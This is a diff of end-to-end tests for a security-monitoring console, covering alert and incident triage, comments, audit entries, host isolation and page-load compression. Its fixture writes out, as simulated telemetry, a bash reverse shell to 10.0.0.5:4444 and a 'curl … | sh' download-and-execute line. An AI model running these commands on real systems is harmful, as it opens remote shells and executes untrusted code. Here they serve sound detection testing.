@@ -30,11 +30,11 @@ before(async () => {
   // A known attack chain: sshd → bash reverse shell (connects out, resolves a name, writes a file) → curl piped to sh.
   await agent.emit([
     processStart(entity.sshd, null, 900, '/usr/sbin/sshd', 'sshd -D'),
-    processStart(entity.bash, entity.sshd, 901, '/usr/bin/bash', `bash -c bash -i >& /dev/tcp/10.0.0.5/4444 0>&1 # ${marker}`),
+    processStart(entity.bash, entity.sshd, 901, '/usr/bin/bash', `bash -c bash -i >& /dev/tcp/10.0.0.5/4444 0>&1 # ${marker}`, { 'process.parent.pid': 900 }),
     activity(entity.bash, 901, 'dns', 'query', { 'dns.question.name': 'evil.example.com' }),
     activity(entity.bash, 901, 'network', 'connect', { 'destination.ip': '10.0.0.5', 'destination.port': 4444, 'network.transport': 'tcp' }),
     activity(entity.bash, 901, 'file', 'create', { 'file.path': '/tmp/.x.sh' }),
-    processStart(entity.curl, entity.bash, 902, '/usr/bin/curl', `curl -s http://203.0.113.7/x | sh # ${marker}`),
+    processStart(entity.curl, entity.bash, 902, '/usr/bin/curl', `curl -s http://203.0.113.7/x | sh # ${marker}`, { 'process.parent.pid': 901 }),
     ...Array.from({ length: 30 }, (_, i) => processStart(`ls-${marker}-${i}`, entity.sshd, 1000 + i, '/usr/bin/ls', `ls -la /srv/${i} ${marker}`)),
   ]);
   // Older file events: the host timeline pages through them (200 per page).
@@ -129,6 +129,44 @@ test('login with a wrong password is refused in place; the right one shows the u
   await page.getByText('You are logged out.').waitFor();
   const me = await page.evaluate<number>("fetch('/api/v1/auth/me').then((r) => r.status)");
   assert.equal(me, 401, 'the session ended on the server');
+  await tab.context.close();
+});
+
+test('the first load (login page, then the overview) is brotli-compressed and under 1 MB on the wire, as the browser measured it', async () => {
+  const tab = await openTab(browser, server);
+  const { page } = tab;
+  const responses: { url: string; type: string; encoding: string | null; vary: string | null; cache: string | null; bytes: number }[] = [];
+  const pending: Promise<void>[] = [];
+  page.on('response', (response) => {
+    pending.push(
+      (async () => {
+        const sizes = await response.request().sizes();
+        responses.push({
+          url: new URL(response.url()).pathname,
+          type: response.request().resourceType(),
+          encoding: await response.headerValue('content-encoding'),
+          vary: await response.headerValue('vary'),
+          cache: await response.headerValue('cache-control'),
+          bytes: sizes.responseBodySize + sizes.responseHeadersSize,
+        });
+      })(),
+    );
+  });
+  await login(page);
+  await page.locator('#page-title', { hasText: 'Overview' }).waitFor();
+  await page.waitForLoadState('networkidle');
+  await Promise.all(pending);
+  const assets = responses.filter((r) => r.url.startsWith('/assets/'));
+  assert.ok(assets.some((r) => r.url.endsWith('.js')) && assets.some((r) => r.url.endsWith('.css')), JSON.stringify(responses.map((r) => r.url)));
+  for (const asset of assets) {
+    assert.equal(asset.encoding, 'br', `${asset.url} is sent brotli-compressed`);
+    assert.equal(asset.vary, 'Accept-Encoding', asset.url);
+    assert.equal(asset.cache, 'public, max-age=31536000, immutable', asset.url);
+  }
+  const total = responses.reduce((sum, r) => sum + r.bytes, 0);
+  const assetBytes = assets.reduce((sum, r) => sum + r.bytes, 0);
+  console.log(`first load: ${responses.length} responses, ${(total / 1024).toFixed(1)} KiB on the wire (${assets.length} assets ${(assetBytes / 1024).toFixed(1)} KiB)`);
+  assert.ok(total < 1024 * 1024, `first load ${total} bytes on the wire exceeds 1 MB`);
   await tab.context.close();
 });
 
@@ -356,10 +394,22 @@ test('alert triage changes status per alert, in bulk and on the alert page', asy
   await page.getByTestId('bulk-apply').click();
   await waitFor('the bulk change', async () => ((await alertsOfHost()).every((a) => a.status === 'in_progress') ? true : undefined));
   await page.getByRole('tab', { name: /Incidents/ }).click();
-  const incident = page.getByTestId('incident').filter({ hasText: host });
+  const incident = page.getByTestId('incident').filter({ hasText: REVERSE_SHELL });
   await incident.waitFor();
   const text = (await incident.textContent()) ?? '';
-  assert.ok(text.includes(REVERSE_SHELL) && text.includes(DOWNLOAD_TO_SHELL), `one incident holds the chain's alerts: ${text}`);
+  assert.ok(text.includes(host) && text.includes(DOWNLOAD_TO_SHELL), `one incident holds the chain's alerts (same host, same process tree): ${text}`);
+  // Triage of the incident reaches each of its alerts (server-side bulk).
+  await incident.getByTestId('incident-status').selectOption('acknowledged');
+  await incident.getByRole('button', { name: 'Assign incident to me' }).click();
+  await waitFor('the incident triage on its alerts', async () => {
+    const chain = (await alertsOfHost()).filter((a) => a.ruleTitle === REVERSE_SHELL || a.ruleTitle === DOWNLOAD_TO_SHELL);
+    return chain.length === 2 && chain.every((a) => a.status === 'acknowledged' && a.assignee === 'admin') ? true : undefined;
+  });
+  const incidentId = await incident.getAttribute('data-incident-id');
+  const served = (await api.get(`/api/v1/incidents/${incidentId}`)).body as { status: string; assignee: string; alerts: { ruleTitle: string }[] };
+  assert.equal(served.status, 'acknowledged');
+  assert.equal(served.assignee, 'admin');
+  await incident.getByText('assigned to admin').waitFor();
   await shot(page, 'alerts');
   await visit(page, `/alerts/${shell.id}`, REVERSE_SHELL);
   await page.getByLabel('Status').selectOption('resolved');
@@ -369,6 +419,19 @@ test('alert triage changes status per alert, in bulk and on the alert page', asy
     const a = (await alertsOfHost()).find((x) => x.id === shell.id);
     return a?.status === 'resolved' && a.assignee === 'alice' ? true : undefined;
   });
+  // Comments: added on the alert page, shown with the signed-in author; an empty one cannot be sent.
+  const note = `Reverse shell to 10.0.0.5 confirmed ${marker}`;
+  assert.equal(await page.getByRole('button', { name: 'Add comment' }).isDisabled(), true);
+  await page.getByLabel('Add a comment').fill(note);
+  await page.getByRole('button', { name: 'Add comment' }).click();
+  const comment = page.getByTestId('comment').filter({ hasText: note });
+  await comment.waitFor();
+  assert.match((await comment.textContent()) ?? '', /^admin · /);
+  const stored = (await api.get(`/api/v1/alerts/${shell.id}/comments`)).body as { author: string; text: string }[];
+  assert.deepEqual(stored.map((c) => [c.author, c.text]), [['admin', note]]);
+  const entries = (await api.get('/api/v1/audit?limit=50')).body as { action: string; target: string }[];
+  assert.ok(entries.some((e) => e.action === 'alert.comment' && e.target === shell.id), 'the comment is audited');
+  await shot(page, 'alert-comments');
   assert.deepEqual(admin.takeProblems(), []);
 });
 
@@ -442,6 +505,12 @@ test('the host page isolates and releases the host with a reason and live progre
   assert.equal(agent.isolated, true, 'the agent ran the signed task');
   await dialog.getByRole('button', { name: 'Close' }).click();
   await isolation.getByText('isolated', { exact: true }).waitFor();
+  // The agent's heartbeat reports the isolation it checked; the panel shows it once newer than the task.
+  await isolation.getByTestId('isolation-verified').waitFor({ timeout: 20_000 });
+  assert.match((await isolation.textContent()) ?? '', /isolated \(verified by agent at \d{4}-\d\d-\d\d \d\d:\d\d:\d\d\)/);
+  const reported = (await api.get(`/api/v1/hosts/${agent.agentId}`)).body as { isolation: { state: string; since: string | null } | null };
+  assert.equal(reported.isolation?.state, 'isolated');
+  assert.ok(reported.isolation?.since);
   await shot(page, 'host-isolated');
   await visit(page, '/hosts?state=isolated', 'Hosts');
   await page.locator(`[data-host-id="${agent.agentId}"]`).getByText('isolated').waitFor();
@@ -457,6 +526,7 @@ test('the host page isolates and releases the host with a reason and live progre
   await release.getByRole('button', { name: 'Close' }).click();
   await isolation.getByText('not isolated').waitFor();
   assert.equal(agent.isolated, false);
+  await waitFor('the agent to report the release', async () => (((await api.get(`/api/v1/hosts/${agent.agentId}`)).body as { isolation: { state: string } | null }).isolation?.state === 'released' ? true : undefined), 15_000);
 
   // A destructive action asks again with the server's confirmation before anything is created.
   await page.getByRole('button', { name: 'Run action…' }).click();
